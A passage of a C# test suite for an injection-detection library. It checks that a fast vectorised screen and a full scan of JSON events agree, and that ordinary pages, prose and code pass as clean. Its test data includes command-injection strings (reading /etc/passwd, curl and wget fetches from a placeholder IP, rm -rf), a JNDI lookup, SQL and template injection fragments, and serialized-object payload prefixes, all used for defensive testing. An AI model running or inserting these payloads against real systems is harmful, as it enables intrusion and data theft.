using System.IO.Compression;
using System.Text;
using System.Text.Json;
using FsCheck;
using FsCheck.Fluent;
using Pellicle.Inspection.Detectors;
using Xunit.Abstractions;

namespace Pellicle.Inspection.Tests;

/// <summary>The quick way through an event says what the slow one says, in which every detector looks at every text; with vectors of every width that the processor has.</summary>
[Collection(ChoosesWidth.Name)]
public sealed class ScreenTests(ITestOutputHelper output) : IDisposable
{
    public void Dispose() => Clean.Wide = default;

    // Pieces that detectors care for, and what stands between them in attacks and in ordinary texts.
    internal static readonly string[] Pieces =
    [
        .. AllDetectors.Create().SelectMany(d => d.Sets).SelectMany(s => s.Values),
        "'", "\"", "`", ";", "|", "&", "&&", "||", "<", ">", "(", ")", "()", "{", "}", "$", "${", "%", "%2e", "%c0%ae", "*", "/*", "*/", "--", "#", "=", "==", "!=", "<>", "@", "@@", "?", "??", "..", "../", "..\\", "/..", "//", "://", "\n", "\r\n", "\t", "\0", "\u0001", "\\n", "\\",
        "1", "2", "0x2f", "0x7f.1", "5e", "3d", "x", "id", "cat", "ls -la", "whoami", "c'a't", "/bin/cat", "and", "or", "not", "xor", "union", "select", "from", "order by 1", "group by", "having 1", "procedure", "sleep(5)", "sleep (5)", "benchmark (1)", "like", "between", "in", "is", "exists",
        "update", "delete from", "insert into", "set @a", "exec(", "declare @x", "O:8:\"a\":1:{", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH", "gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU", "localhost", "127.0.0.1", "2130706433", "[::1]", "user@", "a.localhost", "example.com", "http:", "file:",
        "é", "ü", "漢字", "\u00a0", "\u3000", "\uff0e", "\u2215", "\ufffd", "\u560d", "\u00ac\u00ed", "\ud83d\ude00", " ", "  ", "+", ",", ".", "...", "-", "_", ":", "~", "^", "[", "]", "!", "the", "seat's", "chairs", "O'Brien", "two", "2024-01-02T10:00:00Z", "12 Main Street", "elt(", "ELT(", "|sh\n", "*(|(",
    ];

    private static readonly string[] Frames =
    [
        """{"queryStringParameters":{"q":TEXT},"rawPath":"/"}""", """{"Records":[{"eventSource":"aws:sqs","messageId":"x","body":TEXT}]}""", """{"a":[1,2,TEXT,-1.5e3,TEXT],"b":{"c":{"d":TEXT}},"n":null,"t":true}""", """{"body":TEXT,"isBase64Encoded":false,"httpMethod":"POST"}""", "TEXT",
        """{"rawPath":"/","isBase64Encoded":true,"body":BASE64}""", """{"Records":[{"eventSource":"aws:kinesis","kinesis":{"data":BASE64}}]}""", """{"Records":[{"eventSource":"aws:s3","s3":{"object":{"key":TEXT}}}]}""", """{"body":"a=FORM&b=1&FORM","rawPath":"/"}""", """{"body":NESTED}""",
        """{"awslogs":{"data":PACKED}}""", """{"Records":[{"eventSource":"aws:kinesis","kinesis":{"data":PACKED}},{"eventSource":"aws:kinesis","kinesis":{"data":PACKED}}]}""",
    ];

    internal static byte[] Packed(string text)
    {
        using var packed = new MemoryStream();
        using (var stream = new GZipStream(packed, CompressionLevel.Fastest))
        {
            stream.Write(Encoding.UTF8.GetBytes(text));
        }

        return packed.ToArray();
    }

    private static string Framed(string frame, string text) => frame
        .Replace("PACKED", JsonSerializer.Serialize(Convert.ToBase64String(Packed(JsonSerializer.Serialize(new { messageType = "DATA_MESSAGE", logEvents = Enumerable.Range(0, 12).Select(i => new { id = $"{i}", message = i == 7 ? text : "GET /orders/1?page=2 200" }) })))), StringComparison.Ordinal)
        .Replace("BASE64", JsonSerializer.Serialize(Convert.ToBase64String(Encoding.UTF8.GetBytes(text))), StringComparison.Ordinal)
        .Replace("NESTED", JsonSerializer.Serialize(JsonSerializer.Serialize(new { text, list = new[] { text, "x" }, deep = JsonSerializer.Serialize(new { text }) })), StringComparison.Ordinal)
        .Replace("TEXT", JsonSerializer.Serialize(text), StringComparison.Ordinal)
        .Replace("FORM", JsonSerializer.Serialize(text)[1..^1], StringComparison.Ordinal);

    internal static string? Differs(byte[] json, InspectionOptions? options = null)
    {
        options ??= InspectionOptions.Default;
        var slow = Inspector.Read(json, options, screen: null);
        foreach (var width in WideVectors.Widths)
        {
            Clean.Wide = WideVectors.Of(width);
            var quick = Inspector.Inspect(json, options);
            var same = (quick.Decision, quick.Source, quick.Score, quick.Full, quick.Shape) == (slow.Decision, slow.Source, slow.Score, slow.Full, slow.Shape) && quick.Signals.SequenceEqual(slow.Signals) && quick.Texts.SequenceEqual(slow.Texts);
            if (!same)
            {
                return $"{Encoding.UTF8.GetString(json)}\n{width}: {quick.Source} {quick.Score} {quick.Full} {quick.Shape} {string.Join("; ", quick.Signals)}\nslow: {slow.Source} {slow.Score} {slow.Full} {slow.Shape} {string.Join("; ", slow.Signals)}";
            }
        }

        return null;
    }

    private static string? MissedBy(string text)
    {
        var bytes = Encoding.UTF8.GetBytes(text);
        Clean.Wide = default;
        var by = Inspector.Screened.IsClean(bytes) ? "the screen" : null;
        byte[] padded = [.. bytes, .. new byte[Clean.Behind]];
        foreach (var width in WideVectors.Widths)
        {
            Clean.Wide = WideVectors.Of(width);
            by = Inspector.Screened.Quick.IsClean(padded.AsSpan(0, bytes.Length)) ? $"vectors of {width}" : by;
        }

        var judge = new Inspector.Judge(InspectionOptions.Default, screen: null);
        judge.Find(new EventTexts(64), -1, Encoding.UTF8.GetString(bytes));
        // Such texts are nobody's, whatever a literal they hold.
        foreach (var width in Inspector.Judge.IsPlain(bytes) ? [] : WideVectors.Widths)
        {
            Clean.Wide = WideVectors.Of(width);
            var told = new Inspector.Judge(InspectionOptions.Default, Inspector.Screened, padded: true);
            _ = told.Text(new EventTexts(64), -1, padded.AsSpan(0, bytes.Length));
            if (!told.Signals.SequenceEqual(judge.Signals))
            {
                return $"{width}: {string.Join("; ", told.Signals)}\nall: {string.Join("; ", judge.Signals)}\n`{text}`";
            }
        }

        if (by is null)
        {
            return null;
        }

        return judge.Signals.Count == 0 ? null : $"clean to {by}, but {judge.Signals[0]}: `{text}`";
    }

    [Fact]
    public void What_is_clean_is_clean_to_every_detector()
    {
        var random = new Random(7);
        var clean = 0;
        for (var round = 0; round < 150_000; round++)
        {
            // Few pieces in most rounds: the more there are, the rarer is a text that only one detector cares for.
            var text = string.Concat(Enumerable.Range(0, random.Next(1, round % 4 == 0 ? 24 : 6)).Select(_ => Pieces[random.Next(Pieces.Length)] + (random.Next(3) == 0 ? " " : "")));
            MissedBy(text).ShouldBeNull();
            clean += Inspector.Screened.IsClean(Encoding.UTF8.GetBytes(text)) ? 1 : 0;
        }

        output.WriteLine($"{clean} of 150000 texts are clean");
        clean.ShouldBeGreaterThan(5_000);
    }

    // What pages, articles and source code are made of.
    private static readonly string[] Markup =
    [
        "<p>", "</p>", "<br/>", "<!DOCTYPE html>", "<!doctype html>\nfile:", "<a href=\"https://shop.example/p/1?a=b&c=d\" title='two words'>", "<td class=\"row\" style=\"color: red; width: 50%\">", "<img src=logo.png>", "<input value=\"", "\">", "'>", "&#39;", "&#x27;", "&amp;", "&pound;3.50", "style=", "url(", "url (",
        "`config.yaml` needs", "`a` and `b` of", "'a' and 'b' is", "\"x\" or \"y\" like", "`x` xor true", "`a` or b = b", "' or 5", "\" and b(", "` order by 1", "' order from", "\" order/**/by 1", "1 order by 1", "2 order of", "') or 1=1", "') not 1=1", "\"))) x", "' -- x\nor 1=1", "' -- x\nwe", "' --x", "' # x\n# y\nwhere a = 1", "\"# x", "' --", "'=5", "\">5", "'> x", "\"== '", "; /usr/bin/cat", "\n/srv/app/x", "\n// find -x", "`/bin//cat x`", "|| /bin/ls", "&& ls -la", "a &&& b", "' && 1", "; and", "; in it", "0x2e ..", "..0X2f", "a..b\tc", "` # x\nor 1=1", "`\n# x\n", "` - sleep (1)", "' | count (1)", "\"-version(", "` | a", "' - b", "`** ", "' not in", "') and", "'=' 1", "\"<>\"", "'/* */ or", "'\\' or", "`", "```\nx\n```", "```sh\n", "(`id`)", "`test=1`", "` /bin/id`", "**bold**", "*", "# Part", "\n#", "\n--", "|---|---|\n",
        "| a | b |\n", "{", "}", "{{", "{%", "{% print(process.env) %}", "#{", "@{", "*{7*7}", "{7*7}", "${", "$(id)", "$12", "<(", ">(", "<%=", "<% %>", "() { x; }", "..", "...", "../", "..\\", "%", "100%;", "%\"", "%%", "\\", "\\n", "function (a) { return a; }", "const a = {\"b\": 'c'};", "a && b", "a || b", "//", "on x=", "only=", "\n    at Object.<anonymous> (/srv/index.js:3:9)", "\u2003(){a;}",
    ];

    [Fact]
    public void What_is_clean_in_pages_and_articles_is_clean_to_every_detector()
    {
        var random = new Random(31);
        var clean = 0;
        var fillers = new[] { "", "Some words of prose, which nobody minds. ", "<b>Chairs</b> of oak, 12 of them. ", "chairs " };
        for (var round = 0; round < 60_000; round++)
        {
            // Most rules of long texts are others than those of short ones: from so many characters on.
            string Filler() => string.Concat(Enumerable.Repeat(fillers[random.Next(fillers.Length)], random.Next(3) == 0 ? 0 : new[] { 2, 6, 12, 32, 90 }[random.Next(5)]));
            string Piece() => random.Next(3) == 0 ? Pieces[random.Next(Pieces.Length)] : Markup[random.Next(Markup.Length)];
            var text = (random.Next(2) == 0 ? Filler() : "") + string.Concat(Enumerable.Range(0, random.Next(1, round % 4 == 0 ? 8 : 4)).Select(_ => Piece() + (random.Next(3) == 0 ? " " : ""))) + Filler();
            MissedBy(text).ShouldBeNull();
            byte[] padded = [.. Encoding.UTF8.GetBytes(text), .. new byte[Clean.Behind]];
            clean += Inspector.Screened.Quick.IsClean(padded.AsSpan(0, padded.Length - Clean.Behind)) ? 1 : 0;
        }

        output.WriteLine($"{clean} of 60000 texts are clean to vectors");
        (clean > 5_000 || WideVectors.Widths.Length == 1).ShouldBeTrue();
    }

    // What stands around the words that join conditions, in attacks and in prose.
    private static readonly string[] Joined =
    [
        "or", "and", "not", "xor", "Or", "AND", "27", "0", "0x1f", "3.5", "1e5", "6b", "7abcd", ".5", "5.", "a", "x", "chairs", "is", "in", "like", "between", "sounds", "div", "mod", "true", "null", "where", "order by 1", "group", "having", "select", "sleep(1)", "user(", "=", "==", "<", ">", "!=", "1=1", "a=a", "'", "\"", "`", "'a'", "\"b\"",
        "(", ")", ",", ".", ":", "?", "]", "[", "-", "+", "--", "#", "/*", "*/", ";", "&", "&&", "||", "|", "@x", "@@version", "$", "_", "~", "!", "é", "§", "\u00a0", "\u3000", "漢", "\t", "\n",
    ];

    [Fact]
    public void What_is_clean_around_the_words_of_conditions_is_clean_to_every_detector()
    {
        var random = new Random(37);
        var clean = 0;
        for (var round = 0; round < 100_000; round++)
        {
            var text = string.Concat(Enumerable.Range(0, random.Next(1, round % 4 == 0 ? 16 : 7)).Select(i => (i == 0 && random.Next(2) == 0 ? Joined[random.Next(6)] : Joined[random.Next(Joined.Length)]) + (random.Next(4) > 0 ? " " : "")));
            text = random.Next(2) == 0 ? text.TrimEnd(' ') : text;
            MissedBy(text).ShouldBeNull();
            byte[] padded = [.. Encoding.UTF8.GetBytes(text), .. new byte[Clean.Behind]];
            clean += Inspector.Screened.Quick.IsClean(padded.AsSpan(0, padded.Length - Clean.Behind)) ? 1 : 0;
        }

        output.WriteLine($"{clean} of 100000 texts are clean to vectors");
        (clean > 5_000 || WideVectors.Widths.Length == 1).ShouldBeTrue();
    }

    [Theory]
    [InlineData("or 27")]
    [InlineData("or 12.50")]
    [InlineData("not 976")]
    [InlineData("2 or 3 chairs, oak")]
    [InlineData("Nr. 7 and 8 of the list")]
    [InlineData("not, as we thought, 7 and, of course, 8")]
    public void Numbers_that_prose_joins_are_clean(string text)
    {
        foreach (var width in WideVectors.Widths.Where(w => w > 0))
        {
            Clean.Wide = WideVectors.Of(width);
            byte[] padded = [.. Encoding.UTF8.GetBytes(text), .. new byte[Clean.Behind]];
            Inspector.Screened.Quick.IsClean(padded.AsSpan(0, padded.Length - Clean.Behind)).ShouldBeTrue($"{width} {text}");
        }
    }

    [Theory]
    [InlineData("please select the rows that were selected by a selector", true)]
    [InlineData("<select name=a><option selected>b</select> and rows.Select(x, y).ToList", true)]
    [InlineData("they sleep well, and a benchmark of it was made in summer", true)]
    [InlineData("# A heading\nand then a line of words\n", false)]
    [InlineData("# A heading\nthen a line of words -- and more of them\r\n\r\nit", true)]
    [InlineData("Dear all,\nthe second line of a text, and the third\nof it", true)]
    [InlineData("From: Ann of the example\r\nContent-Type: text/plain and what else there is of a message, which is longer than any parameter that a header would be broken out of, for that is what is looked for: a value of a few words, and a line break behind them, and the header that a program then sends to somebody else", true)]
    [InlineData("^\\d{3}-\\w+\\s*$ or a path of C:\\data\\x and of it \\section", true)]
    [InlineData("x=\\nid", false)]
    [InlineData("a line\nBcc: x and what else there is of it in that line", false)]
    [InlineData("a line of it and more\r\nset-cookie: x and what else there is", false)]
    [InlineData("a line of it and more\nand then we fetch what there is to have", false)]
    [InlineData("a line of it and more of it; select what there is to have", false)]
    [InlineData("a line of it and more of it 1union select what there is to", false)]
    [InlineData("a line of it and more of it union all\nselect what there is", false)]
    [InlineData("a line of it and more of it (select what there is to have", false)]
    [InlineData("a line of it and more of it pg_sleep (5) what there is here", false)]
    public void Words_of_queries_and_lines_count_where_they_say_something(string text, bool clean)
    {
        MissedBy(text).ShouldBeNull();
        foreach (var width in WideVectors.Widths.Where(w => w > 0))
        {
            Clean.Wide = WideVectors.Of(width);
            foreach (var behind in new[] { "", string.Concat(Enumerable.Repeat(" of it", 14)) })
            {
                byte[] padded = [.. Encoding.UTF8.GetBytes(text + behind), .. new byte[Clean.Behind]];
                Inspector.Screened.Quick.IsClean(padded.AsSpan(0, padded.Length - Clean.Behind)).ShouldBe(clean, $"{width} {text}{behind}");
            }
        }
    }

    /// <summary>Of places that say no more than was said before the rest is not read; a place that says more is.</summary>
    [Theory]
    [InlineData("; cat /etc/passwd")]
    [InlineData("| /bin/sh")]
    [InlineData("\n/usr/bin/id -a")]
    [InlineData("\nc'a't x")]
    [InlineData(" && curl http://198.51.100.7/x")]
    [InlineData("; rm -rf /tmp/x")]
    [InlineData(" `wget -q http://198.51.100.7/x`")]
    public void A_command_among_many_that_say_little_counts(string command)
    {
        foreach (var (line, from) in new[] { ("\n    at Object.read (/srv/a.js:1:2)", 0.4), ("\nThen one uses `cat x` or\ncurl of it | sort && make test", 0.6) })
        {
            var many = string.Concat(Enumerable.Repeat(line, 40));
            MissedBy(many + command + many).ShouldBeNull();
            double Strongest(string text)
            {
                var judge = new Inspector.Judge(InspectionOptions.Default, screen: null);
                judge.Find(new EventTexts(64), -1, text);
                return judge.Signals.Where(s => s.Detector == "command-injection").Max(s => s.Confidence);
            }

            Strongest(many).ShouldBe(from);
            Strongest(many + command + many).ShouldBeGreaterThanOrEqualTo(0.6);
        }
    }

    /// <summary>Where nothing of a statement stands, what is behind a quote is read as far as it may go on with a query; that is told before.</summary>
    [Fact]
    public void What_stands_behind_quotes_is_judged_whoever_is_asked()
    {
        string[] words = ["'", "\"", "`", "'", ")", "(", ";", ",", ".", "=", "<", "--", "-- a\n", "# a\n", "/*", "*/", "/* a */", "\n", "\n", "+", "1", "0xf", "1e1", "x", "@a", "'a'", "\"b\"", "and", "or", "not", "||", "&&", "union", "union all", "select", "select 1", "from", "where", "order by 1", "group by", "having 1", "procedure", "sleep(5)",
            "sleep (5)", "pg_sleep (1)", "benchmark(1)", "drop table", "insert into", "if (", "exec sp_", "set @a", "waitfor delay", "like", "between", "in", "a.Select(b)", "selected", "var x = y;", "return", "the", "seat's", "\u00a0", "\u6f22"];
        var random = new Random(23);
        var told = 0;
        for (var round = 0; round < 20_000; round++)
        {
            var text = string.Concat(Enumerable.Range(0, random.Next(2, 12)).Select(_ => words[random.Next(words.Length)] + (random.Next(3) > 0 ? " " : ""))) + (random.Next(4) == 0 ? new string('z', 400) : "");
            MissedBy(text).ShouldBeNull();
            told += Inspector.Inspect(JsonSerializer.SerializeToUtf8Bytes(new { text })).Signals.Count > 0 ? 1 : 0;
        }

        told.ShouldBeInRange(2_000, 18_000);
    }

    [Fact]
    public void Pages_articles_and_source_code_are_clean()
    {
        string[] texts =
        [
            "<!DOCTYPE html>\n<html lang=\"en\">\n<head><title>Orders</title><meta charset=\"utf-8\"></head>\n<body>\n" + string.Concat(Enumerable.Range(1, 40).Select(n => $"  <tr class=\"row\"><td style=\"width: 50%; color: #333\">{n}</td><td><a href='https://shop.example/p/{n}?a=1&amp;b=2#top'>Oak chair no. {n}</a><br/><img src=\"/img/127.jpg\">Read more...</td><td>&pound;{n}.50 &#8364;</td></tr>\n")) + "</body>\n</html>\n",
            "# Notes on the release\n\n" + string.Concat(Enumerable.Range(1, 40).Select(n => $"## Part {n}\n\nThe *second* part of **chapter {n}** says that `config.yaml` and `{n}.json` are created, for $5 or \"less\", where \"more\" is asked for:\n\n- a [link](https://docs.example/{n}) to the page\n- <kbd>Ctrl</kbd>, which is `C` in `/etc/app/{n}.conf`...\n\n| name | value |\n|---|---|\n| `a` | {{{n}}} |\n\n```json\n{{\"update\": [{n}], \"b\": \"c\"}}\n```\n\n")),
        ];
        foreach (var width in WideVectors.Widths.Where(w => w > 0))
        {
            Clean.Wide = WideVectors.Of(width);
            foreach (var text in texts)
            {
                byte[] padded = [.. Encoding.UTF8.GetBytes(text), .. new byte[Clean.Behind]];
                Inspector.Screened.Quick.IsClean(padded.AsSpan(0, padded.Length - Clean.Behind)).ShouldBeTrue($"{width} {text}");
            }
        }
    }

    [Fact]
    public void Every_literal_is_seen_wherever_it_stands()
    {
        foreach (var literal in AllDetectors.Create().SelectMany(d => d.Sets).Where(s => s.TellAlone).SelectMany(s => s.Values))
        {
            for (var before = 0; before < 21; before++)
            {
                foreach (var after in new[] { 0, 1, 2, 3, 40 })
                {
                    var bytes = Encoding.UTF8.GetBytes(new string('x', before) + (before % 2 == 0 ? literal : literal.ToUpperInvariant()) + new string('x', after));
                    byte[] padded = [.. bytes, .. new byte[Clean.Behind]];
                    // Three short ones show only where what stands around them means something.
                    (!Inspector.Screened.IsClean(bytes) || literal is "|sh\n").ShouldBeTrue(Encoding.UTF8.GetString(bytes));
                    foreach (var width in WideVectors.Widths)
                    {
                        Clean.Wide = WideVectors.Of(width);
                        (!Inspector.Screened.Quick.IsClean(padded.AsSpan(0, bytes.Length)) || literal is "|sh\n").ShouldBeTrue($"{width} {Encoding.UTF8.GetString(bytes)}");
                    }

                    Clean.Wide = default;
                }
            }
        }
    }

    /// <summary>A place where both stand: what might begin a literal, and does not, says nothing about the sign.</summary>
    [Theory]
    [InlineData("${", ".x()}"), InlineData("{{", "*7}}"), InlineData("<%", "=7%>"), InlineData("#{", "7*7}"), InlineData("*{", "7*7}"), InlineData("$(", ")"), InlineData("';", " table x--"), InlineData("' ", " 1=1--"), InlineData("//", "@127.0.0.1/x"), InlineData("|", " /etc/passwd")]
    [InlineData(";", " -a;id"), InlineData("`", "`"), InlineData("&&", " x"), InlineData("=", ";id"), InlineData("(", ")"), InlineData("%", "%2e%2e")]
    public void A_sign_counts_where_a_literal_might_begin(string sign, string rest)
    {
        const string Seconds = "abcdefghijklmnopqrstuvwxyz /<(";
        for (var first = 'a'; first <= 'z'; first++)
        {
            foreach (var second in Seconds)
            {
                Differs(Encoding.UTF8.GetBytes($$"""{"a":["two words","x{{sign}}{{first}}{{second}}{{rest}}"]}""")).ShouldBeNull();
            }
        }
    }

    [Fact]
    public void Any_text_whatever() => Prop.ForAll<NonNull<string>>(text => MissedBy(text.Get) is null && Frames.All(f => Differs(Encoding.UTF8.GetBytes(Framed(f, text.Get))) is null)).QuickCheckThrowOnFailure();

    [Fact]
    public void Both_ways_say_the_same_of_built_events()
    {
        var random = new Random(11);
        for (var round = 0; round < 12_000; round++)
        {
            var text = string.Concat(Enumerable.Range(0, random.Next(1, 5)).Select(_ => Pieces[random.Next(Pieces.Length)] + (random.Next(3) == 0 ? " " : "")));
            Differs(Encoding.UTF8.GetBytes(Framed(Frames[random.Next(Frames.Length)], text))).ShouldBeNull();
        }
    }

    [Fact]
    public void Signs_that_say_little_leave_room_for_an_attack_behind_them()
    {
        var json = JsonSerializer.SerializeToUtf8Bytes(new { lines = Enumerable.Range(0, 600).Select(i => $"<style>.a{i} {{}}</style> and some words").Append("; cat /etc/passwd") });
        Differs(json).ShouldBeNull();
        var verdict = Inspector.Inspect(json);
        verdict.Decision.ShouldBe(InspectionDecision.Block);
        verdict.Signals[0].Field.ShouldBe("lines[600]");
    }

    /// <summary>Of many that say the same the first are kept; nobody is asked for those behind them.</summary>
    [Fact]
    public void The_first_of_many_signs_that_say_the_same_are_reported()
    {
        var json = JsonSerializer.SerializeToUtf8Bytes(new { messages = Enumerable.Range(0, 400).Select(i => new { role = "user", content = $"Here is how:\n\n```python\nprint(os.environ[\"X{i}\"])\n```\n\nThen run `python app.py` and **check** {i}% of it." }) });
        Differs(json).ShouldBeNull();
        Inspector.Inspect(json).Signals.Select(s => s.Field).Order(StringComparer.Ordinal).ShouldBe(Enumerable.Range(0, 32).Select(i => $"messages[{i}].content").Order(StringComparer.Ordinal));
    }

    /// <summary>What counts less in lines of logs does not take the place of what does not.</summary>
    [Fact]
    public void Attacks_that_lines_of_logs_tell_of_leave_room_for_one_on_who_reads_them()
    {
        var lines = Enumerable.Range(0, 100).Select(i => new { id = $"{i}", message = $"GET /?q=1' or '1'='1&x={i}" }).Append(new { id = "x", message = "${jndi:ldap://198.51.100.7/a}" });
        var json = Encoding.UTF8.GetBytes($"{{\"awslogs\":{{\"data\":\"{Convert.ToBase64String(Packed(JsonSerializer.Serialize(new { messageType = "DATA_MESSAGE", logEvents = lines })))}\"}}}}");
        Differs(json).ShouldBeNull();
        var verdict = Inspector.Inspect(json);
        verdict.Decision.ShouldBe(InspectionDecision.Block);
        verdict.Signals.Count.ShouldBe(32);
        verdict.Signals[0].Detector.ShouldBe("template-injection");
    }

    [Theory]
    [InlineData("a$b or 1=1")]
    [InlineData("a$b and sleep(5)")]
    public void A_condition_behind_a_name_with_a_dollar_sign_is_seen(string text)
    {
        MissedBy(text).ShouldBeNull();
        foreach (var width in WideVectors.Widths)
        {
            Clean.Wide = WideVectors.Of(width);
            foreach (var behind in new[] { "", " -- " + new string('x', 80) })
            {
                byte[] padded = [.. Encoding.UTF8.GetBytes(text + behind), .. new byte[Clean.Behind]];
                Inspector.Screened.Quick.IsClean(padded.AsSpan(0, padded.Length - Clean.Behind)).ShouldBeFalse($"{width} {text}");
            }
        }
    }

    /// <summary>Documents as people send them, with pieces of attacks at places of any kind: what is said of a text is the same whoever is asked about it.</summary>
    [Fact]
    public void Both_ways_say_the_same_of_attacks_in_documents()
    {
        var random = new Random(43);
        Func<int, string>[] kinds =
        [
            n => $"<tr class=\"row\" style=\"color: red\"><td>{n}</td><td><a href=\"https://shop.example/p/{n}?a=1&amp;b=2\">Oak chair</a></td></tr>\n",
            n => $"## Part {n}\n\nUse `npm install` and **then** `cat file{n}`:\n\n```bash\ncurl -sSL https://get.example/{n}\ncd app && make test\n```\n\n",
            n => $"Error: cannot read order {n}\n    at Object.read (/srv/app/orders.js:{n}:13)\n    at async Promise.all (index 0)\n",
            n => $"{{\"ts\":\"2024-03-01T12:00:00Z\",\"msg\":\"order {n} saved\",\"user\":\"jane+{n}@mail.example\"}}\n",
            n => $"2024-03-01 12:00:00,123 INFO GET \"https://shop.example/p/{n}?page=2\" 200 3ms agent=\"Mozilla/5.0 (X11)\" user='u{n}'\n",
            n => $"const url{n} = `https://api.example/${{id}}`;\nif (id === null || id === \"\") {{ throw new Error('no'); }}\n/* {n} */\n",
            n => $"INSERT INTO orders (id, name) VALUES ({n}, 'Jane Müller');\n",
            n => $"- name: \"Oak {n}\"\n  command: [\"npm\", \"start\"]\n  # remark\n\n\n",
        ];
        for (var round = 0; round < 1200; round++)
        {
            var kind = kinds[random.Next(kinds.Length)];
            var document = new StringBuilder(string.Concat(Enumerable.Range(0, random.Next(1, random.Next(4) == 0 ? 200 : 30)).Select(n => (random.Next(8) == 0 ? kinds[random.Next(kinds.Length)] : kind)(n))));
            for (var i = random.Next(4); i > 0; i--)
            {
                document.Insert(random.Next(document.Length), random.Next(2) == 0 ? Pieces[random.Next(Pieces.Length)] : Attacks[random.Next(Attacks.Length)]);
            }

            var text = document.ToString().Normalize();
            MissedBy(text).ShouldBeNull();
            Differs(Encoding.UTF8.GetBytes(Framed(Frames[random.Next(Frames.Length)], text))).ShouldBeNull();
        }
    }

    /// <summary>Lines of JSON, and what else begins like a document and ends like one.</summary>
    [Fact]
    public void Both_ways_say_the_same_of_lines_of_documents()
    {
        var random = new Random(41);
        string[] lines = ["{\"id\":1,\"name\":\"two words\"}", "{\"q\":\"1 or 1=1\"}", "[1,\"; cat /etc/passwd\",{\"a\":[]}]", "{}", "[]", "{\"a\":{\"b\":\"{\\\"c\\\":\\\"; id\\\"}\"}}", "{\"a\":1", "{\"percent\":\"%2e%2e%2fetc\"}", "{\"__proto__\":{\"$ne\":1}}", "[[[[[1]]]]]", "[12:30] hello [x]", "{\"a\":tru}", "{\"text\":\"<script>\"}"];
        string[] between = ["\n", "\n", "\r\n", "", ",", " ", "//x\n", "/* c */", "\n\n", "\0", "}", "]"];
        string[] frames = ["{\"body\":TEXT,\"rawPath\":\"/\"}", "{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":TEXT},{\"eventSource\":\"aws:sqs\",\"body\":TEXT}]}", "{\"a\":[TEXT,TEXT,\"x\"],\"b\":TEXT}", "{\"isBase64Encoded\":true,\"rawPath\":\"/\",\"body\":BASE64}", "{\"body\":NESTED}", "{\"body\":\"a=1&b=FORM\",\"rawPath\":\"/\"}"];
        for (var round = 0; round < 4000; round++)
        {
            var text = string.Concat(Enumerable.Range(0, random.Next(1, random.Next(4) == 0 ? 60 : 6)).Select(_ => lines[random.Next(lines.Length)] + between[random.Next(random.Next(3) == 0 ? between.Length : 2)]));
            var json = Encoding.UTF8.GetBytes(Framed(frames[random.Next(frames.Length)], text));
            Differs(json).ShouldBeNull();
            Differs(json, new InspectionOptions { MaxTexts = random.Next(1, 40) }).ShouldBeNull();
        }
    }

    [Fact]
    public void Both_ways_say_the_same_of_runs_of_alike_records()
    {
        var random = new Random(19);
        string[] names = ["id", "body", "text", "requestBody", "a\\u0062", "$gt", "__proto__", "s3", "eventSource", "name", "a name of more than thirty-two characters", "name of sixteen!", "x"];
        string[] values = ["1", "-2.5e3", "true", "null", "\"\"", "\"plain-text_1\"", "\"two words\"", "\"1 or 1=1\"", "\"; cat /etc/passwd\"", "\"a=b&c=%2e%2e%2fetc\"", "\"esc\\\"aped\\n\"", "[1, 2,3]", "[1 2]", "[-1.5]", "[1,]", "[]", "{}", "{\"body\":\"; cat /etc/passwd\",\"x\":[[1,2],[3]]}", "\"{\\\"id\\\":\\\"'; id\\\"}\"", "\"exactly-16-chars\"", "\"seventeen--chars!\""];
        for (var round = 0; round < 3000; round++)
        {
            var members = Enumerable.Range(0, random.Next(1, 20)).Select(_ => (Name: names[random.Next(names.Length)], Value: values[random.Next(values.Length)])).ToArray();
            var colon = random.Next(2) == 0 ? ":" : ": ";
            var records = Enumerable.Range(0, random.Next(1, 30)).Select(_ => "{" + string.Join(random.Next(8) == 0 ? " , " : ", ", members.Select(m =>
                $"\"{(random.Next(40) == 0 ? names[random.Next(names.Length)] : m.Name)}\"{(random.Next(40) == 0 ? " :" : colon)}{(random.Next(10) == 0 ? values[random.Next(values.Length)] : m.Value)}")) + "}");
            var frame = (round % 4) switch { 0 => "[{0}]", 1 => "{{\"Records\":[{0}],\"x\":1}}", 2 => "{{\"items\":[{0}],\"headers\":{{\"a\":[{0}]}}}}", _ => "{{\"isBase64Encoded\":false,\"body\":\"x\",\"rawPath\":\"/\",\"list\":[{0}]}}" };
            Differs(Encoding.UTF8.GetBytes(string.Format(System.Globalization.CultureInfo.InvariantCulture, frame, string.Join(", ", records)))).ShouldBeNull();
        }
    }

    /// <summary>Elements of a list are mostly like the second, with lists in them that are not; every name of the first eight belongs to the shape.</summary>
    [Fact]
    public void Both_ways_say_the_same_of_nested_lists()
    {
        var random = new Random(29);
        string[] names = ["id", "name", "lines", "tags", "notes", "body", "headers", "s3Key", "data", "key", "value", "kinesis"];
        string[] texts = ["plain", "two words", "1 or 1=1", "; cat /etc/passwd", "a@b.example", "", "a=b&c=d"];
        string Value(int depth, string[] pool) => random.Next(depth > 4 ? 5 : 9) switch
        {
            0 => $"{random.Next(100)}",
            1 => "null",
            2 or 3 => $"\"{texts[random.Next(random.Next(4) == 0 ? texts.Length : 2)]} {random.Next(10)}\"",
            4 => $"\"{Convert.ToBase64String(Encoding.UTF8.GetBytes(random.Next(4) == 0 ? "{\"a\":[1,\"x\"]}" : texts[random.Next(random.Next(9) == 0 ? texts.Length : 2)]))}\"",
            5 => Written(depth + 1, pool),
            _ => "[" + string.Join(",", Enumerable.Range(0, random.Next(4) == 0 ? random.Next(14) : random.Next(3)).Select(_ => random.Next(5) == 0 ? Value(depth + 1, pool) : Written(depth + 1, pool))) + "]",
        };
        string Written(int depth, string[] pool) => "{" + string.Join(",", pool.Where(_ => random.Next(9) > 0).Select(name => $"\"{name}\":{Value(depth, random.Next(3) == 0 ? pool : [names[random.Next(names.Length)]])}")) + "}";
        for (var round = 0; round < 3000; round++)
        {
            var pool = Enumerable.Range(0, random.Next(1, 4)).Select(_ => names[random.Next(names.Length)]).Distinct().ToArray();
            var few = Enumerable.Range(0, random.Next(1, 4)).Select(_ => Written(0, pool)).ToArray();
            var elements = Enumerable.Range(0, random.Next(2, 14)).Select(_ => random.Next(4) == 0 ? Written(0, pool) : few[random.Next(few.Length)]);
